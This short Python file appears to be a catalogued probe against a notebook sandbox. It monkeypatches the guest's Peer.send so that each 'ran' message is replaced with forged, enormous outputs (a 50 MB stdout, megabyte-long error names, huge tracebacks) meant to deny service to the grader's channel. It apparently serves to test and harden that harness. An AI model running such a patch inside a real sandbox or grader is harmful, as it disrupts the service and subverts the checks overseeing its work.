"""
what = "its end of the channel claims outputs of fifty megabytes, more than a cell may have"
goal = "deny service"
success = "large"
control = "not run: it forges the frames of the grader's own channel, which a kernel does not have"
"""

# %%
import sys

peer = sys.modules["guest.peer"].Peer
send = peer.send


def forged(self, message, blobs):
    if message["op"] == "ran":
        outputs = [{"output_type": "stream", "name": "stdout", "text": "x" * 50_000_000}]
        outputs += [{"output_type": "error", "ename": "E" * 10**6, "evalue": "e", "traceback": ["t"] * 100_000}]
        outputs += [{"output_type": "execute_result", "data": {"text/html": "<b>"}}] * 10_000
        message = {"op": "ran", "outputs": outputs}
    send(self, message, blobs)


peer.send = forged
